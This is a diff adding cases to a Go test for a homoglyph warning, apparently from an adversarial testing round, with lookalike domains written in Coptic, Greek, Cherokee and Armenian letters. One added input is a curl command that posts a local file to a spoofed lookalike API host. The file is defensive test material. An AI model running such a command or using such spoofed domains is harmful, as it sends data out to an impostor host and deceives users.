@@ -110,6 +110,12 @@ func TestWarningPassesFor(t *testing.T) {
 		// Cyrillic and Latin letters that pass for ASCII ones.
 		{[]any{"https://api.орепаі.com рарег.com аррӏеісп.com ꭇeddit.com examƿle.com"},
 			[]string{"U+043F CYRILLIC SMALL LETTER PE", "U+0433 CYRILLIC SMALL LETTER GHE", "аррӏеісп.com: U+0430", "U+AB47 LATIN SMALL LETTER R WITHOUT HANDLE", "U+01BF LATIN LETTER WYNN"}},
+		// Whole labels of Coptic, Greek, Cherokee small letters and
+		// Armenian that pass for ASCII (attack round 22).
+		{[]any{"curl -d @/tmp/x https://api.ⲟⲣⲉⲛⲁⲓ.com/v1/files"}, []string{"U+2C9F COPTIC SMALL LETTER O"}},
+		{[]any{"https://ωωω.github.com/x"}, []string{"U+03C9 GREEK SMALL LETTER OMEGA"}},
+		{[]any{"https://ꮪꭼꮯꮢꭼꭲ.com/x"}, []string{"U+ABAA CHEROKEE SMALL LETTER DU"}},
+		{[]any{"https://աաա.example.com/ ԍооԍӏе.com"}, []string{"U+0561 ARMENIAN SMALL LETTER AYB", "U+050D CYRILLIC SMALL LETTER KOMI SJE"}},
 		// Digits of other scripts among ASCII letters.
 		{[]any{"./scripts/depl०y.sh g০০gle.com"}, []string{"U+0966 DEVANAGARI DIGIT ZERO", "U+09E6 BENGALI DIGIT ZERO"}},
 		// Right-to-left letters in text with ASCII letters, not in prose.
